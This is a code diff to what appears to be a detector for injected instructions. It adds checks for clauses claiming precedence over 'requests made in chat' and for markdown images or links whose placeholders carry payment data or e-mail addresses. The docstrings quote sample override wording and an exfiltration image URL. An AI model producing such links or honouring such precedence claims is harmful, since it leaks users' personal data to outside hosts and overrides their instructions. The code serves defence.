@@ -1298,7 +1298,7 @@ def _ranks_over_user(clause: Clause) -> bool:
     if not clause.has("instructions", "selfref") or clause.has("deferral"):
         return False
     claims = clause.spans("override") - clause.spans("substitute")
-    users = clause.spans(*_OUTRANKED)
+    users = clause.spans(*_OUTRANKED) | _requests_in_chat(clause)
     if any(0 <= u[0] - c[1] <= _RANK_REACH for c in claims for u in users):
         return True
     # "These rules replace the user's instructions": a substitution whose
@@ -1308,6 +1308,39 @@ def _ranks_over_user(clause: Clause) -> bool:
     if any(0 <= u[0] - r[1] <= _REPLACED_REACH for r in replaced for u in users):
         return True
     return any(0 <= r[0] - u[1] <= _RANK_REACH for r in clause.spans("outranks") for u in users)
+
+
+# How far the chat's word may follow the requests it holds ("requests made
+# in chat", "Anweisungen im Chat").
+_CHAT_REACH = 12
+
+
+def _requests_in_chat(clause: Clause) -> frozenset[_Span]:
+    """Requests or instructions said to come from the chat ("this policy
+    takes precedence over requests made in chat", "hat Vorrang vor allen
+    Anweisungen im Chat"): the conversation's requests are the user's, so
+    they stand where the user stands as the loser of a claim. "Override
+    the chat model's defaults" names no request, and "rules that force
+    messages into a tab" has a verb between the rules and the mail."""
+    chats = clause.spans("digest")
+    if not chats:
+        return frozenset()
+    return frozenset(
+        request
+        for request in clause.spans("instructions")
+        if any(
+            0 <= c_start - request[1] <= _CHAT_REACH
+            and not _cue_between(clause, request[1], c_start)
+            for c_start, _c_end in chats
+        )
+    )
+
+
+def _cue_between(clause: Clause, start: int, end: int) -> bool:
+    """A cue word between two places: "rules that force messages" puts a
+    verb between the rules and the messages (the rules act on mail), while
+    "requests made in chat" holds only where the requests come from."""
+    return any(start <= c_start and c_end <= end for c_start, c_end, _cue in clause.hits)
 
 
 def _outranks_every_other(clause: Clause) -> bool:
@@ -2645,11 +2678,37 @@ def _data_in_link(clause: Clause) -> str | None:
         return "data-in-link"
     if not clause.data_link or clause.negated_action:
         return None
+    if _personal_data_in_markdown_link(clause):
+        return "data-in-link"
     carries_secret = bool(clause.link_cues & _CARRIED)
     told = clause.addressed and clause.has("render", "invoke", "collect", "transmit")
     if told and (carries_secret or clause.has("userdata", "sensitive", "digest")):
         return "data-in-link"
     return None
+
+
+# What no honest link's placeholder carries: a payment method, an IBAN or
+# account number ("<Name;IBAN;Betrag>", "<... date of birth and payment
+# method>"). A token in a link ("?token={session_token}") is often the
+# service's own and is left to ``_slot_data``.
+_PAYMENT_DATA = frozenset({"payid", "asset:payment"})
+
+
+def _personal_data_in_markdown_link(clause: Clause) -> bool:
+    """A markdown link or image whose placeholders carry a person's
+    payment data, or a markdown image whose placeholders carry an e-mail
+    address ("![tier](https://cdn.x/b.png?d={full_name}|{email}|{phone})").
+    Rendering the reply fetches an image by itself, so the address's owner
+    receives what was filled in; no click, no request the user sees.
+    Leaves alone an image of a hashed address ("/avatar/{email_hash}", the
+    ``redacted`` cue), a map of an address ("?center={address}"), and a
+    text link with an e-mail in its query (an unsubscribe link the user
+    clicks)."""
+    if clause.link_cues & _PAYMENT_DATA:
+        return True
+    if "![" not in clause.text or "asset:email" not in clause.link_cues:
+        return False
+    return "redacted" not in clause.link_cues
 
 
 # What the conversation or a secret is called when it is what a link or a
